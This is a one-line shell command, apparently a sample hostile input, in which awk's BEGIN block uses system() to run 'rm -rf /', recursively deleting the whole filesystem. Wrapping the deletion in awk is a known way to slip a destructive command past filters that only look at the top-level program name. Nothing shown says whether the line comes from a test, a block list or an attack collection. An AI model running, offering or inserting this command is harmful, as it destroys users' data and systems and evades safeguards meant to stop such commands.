awk 'BEGIN { system("rm -rf /") }'
